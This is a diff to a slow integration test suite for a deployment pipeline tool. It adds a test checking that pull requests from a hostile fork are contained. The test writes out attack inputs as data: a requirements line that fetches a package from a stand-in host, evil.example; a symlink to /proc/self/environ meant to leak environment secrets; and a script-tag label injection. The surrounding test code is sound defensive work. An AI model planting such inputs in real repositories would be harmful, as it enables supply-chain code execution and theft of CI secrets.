@@ -8,9 +8,8 @@ from contextlib import contextmanager
 from pathlib import Path
 
 import pytest
-from helpers.fake_github import FakeGitHub
 from helpers.forked import forks_of_this_process
-from helpers.runner import Job, Machine, environ_of, evaluated, tools
+from helpers.runner import Hub, Job, Machine, environ_of, evaluated, tools
 from helpers.server_process import serving
 
 pytestmark = pytest.mark.slow
@@ -63,7 +62,7 @@ class Team:
 @contextmanager
 def made(tmp_path: Path) -> Iterator[Team]:
     """A project that is live, at a forge, with the pipeline that init writes."""
-    forge = FakeGitHub()
+    forge = Hub()
     folder = tmp_path / "tools"
     tools(folder)
     forks_of_this_process().install(folder)
@@ -148,7 +147,7 @@ def from_a_branch_to_live(team: Team, how: str) -> None:
     reviewed(team, 1)
     assert results(machine.queued(1)) == {"validate": "success", "check": "success"}
     assert results(machine.merged(1, how)) == {"apply": "success"}
-    assert "by rita" in team.offerkit("history", "-n", "3") or "rita" in team.offerkit("history", "-n", "3")
+    assert "rita" in team.offerkit("history", "-n", "3")
     assert results(machine.dispatched(promote=False)) == {"promotion": "success"}
     assert "canada-rockies" in machine.summaries[-1]
     assert results(machine.dispatched(promote=True)) == {"promotion": "success", "promote": "success"}
@@ -183,7 +182,11 @@ def test_what_is_not_what_was_read_is_neither_merged_nor_applied(team: Team) -> 
     assert queue["check"].result == "failure" and "canada-rockies" in queue["check"].said
     merged = machine.merged(1)
     assert merged["apply"].result == "failure" and "OFR92" in merged["apply"].said
-    assert "weight: 25" in team.offerkit("export", "design")
+    assert "No changes" in team.offerkit("plan", "offer.canada-rockies")
+    drift = machine.night()["drift"]
+    assert drift.result == "success", drift.said
+    [issue] = machine.forge.issues.values()
+    assert "canada-rockies" in issue["body"]
 
 
 @pytest.mark.parametrize("kind", ["line ends", "comment", "rename"])
@@ -199,13 +202,17 @@ def test_what_changes_little(team: Team, kind: str) -> None:
     team.git("checkout", "-q", "-B", "topic", "origin/main")
     team.change(old, new)
     if kind == "rename":
-        team.change("offers:\n", "moved:\n  - {from: offer.newsletter, to: offer.letter}\n\noffers:\n")
+        team.change("offers:\n", "moved:\n  offer.newsletter: offer.letter\n\noffers:\n")
+        team.offerkit("fmt")
+        team.git("commit", "-qam", "Format")
     team.push("topic")
-    ran = results({name: job for name, job in machine.opened(1, "topic", forge.people[1]).items() if name != "validate"})
+    ran = results(
+        {name: job for name, job in machine.opened(1, "topic", forge.people[1]).items() if name != "validate"}
+    )
     assert ran == dict.fromkeys(("plan", "comment", "check"), "success")
     if kind == "rename":
         [comment] = machine.said()
-        assert "newsletter" in comment and "1 to move" in comment or "renamed" in comment or "→" in comment
+        assert "recipients/offer.letter" in comment and "recipients/offer.newsletter" in comment
     else:
         assert machine.said() == []
 
@@ -217,7 +224,7 @@ def test_without_a_store(team: Team) -> None:
     ran = results(machine.opened(1, "summer", forge.people[1]))
     assert ran == dict.fromkeys(("validate", "plan", "comment", "check"), "success")
     [comment] = machine.said()
-    assert "20 → 30" in comment or "30" in comment
+    assert "+ weights[Summer].weight: 30" in comment
     assert results(machine.merged(1)) == {}
     assert results(machine.night()) == {"open": "success"}  # nothing is
 
@@ -227,3 +234,30 @@ def test_the_runner_reads_expressions() -> None:
     assert evaluated("github.event_name == 'push' && vars.STORE != ''", context) is False
     assert evaluated("!cancelled() && (vars.STORE != '' || needs.plan.result == 'success')", context) is True
     assert evaluated("github.event.pull_request.number || github.event_name", context) == "push"
+
+
+def test_a_fork(team: Team, tmp_path: Path) -> None:
+    """Its own run checks form; it is planned and commented on by the default branch's, and nothing of it is laid out."""
+    machine, forge = team.machine, team.machine.forge
+    fork = tmp_path / "fork.git"
+    machine.git("clone", "-q", "--bare", machine.bare.as_uri(), str(fork))
+    team.git("fetch", "-q", "origin")
+    team.git("checkout", "-q", "-B", "evil", "origin/main")
+    (team.clone / "requirements.txt").write_text("offerkit @ https://evil.example/offerkit.whl\n")
+    (team.clone / "specs/recipients/spy.yaml").symlink_to("/proc/self/environ")
+    team.git("add", "-A")
+    team.change("weight: 20", "weight: 30")
+    team.push("evil", str(fork))
+    ran = machine.opened(7, "evil", forge.people[3], fork)
+    assert ran["validate"].result == "failure" and ran["forks plan"].result == "skipped"  # the link leads outside
+    team.git("rm", "-q", "specs/recipients/spy.yaml")
+    team.change("label: Newsletter", "label: '@everyone <script>'")
+    team.push("evil", str(fork))
+    ran = machine.opened(7, "evil", forge.people[3], fork)
+    assert results(ran) == dict.fromkeys(("validate", "forks plan", "forks comment"), "success")
+    assert {name for name, job in ran.items() if job.result == "skipped"} >= {"plan", "comment", "check", "apply"}
+    [comment] = machine.said()
+    assert "canada-rockies" in comment
+    reviewed(team, 7)
+    merged = machine.merged(7)["apply"]  # a stranger wrote it: who may approve it is not known
+    assert "Applied. Revision" in merged.said and "OFR720" in merged.said and merged.result == "failure"
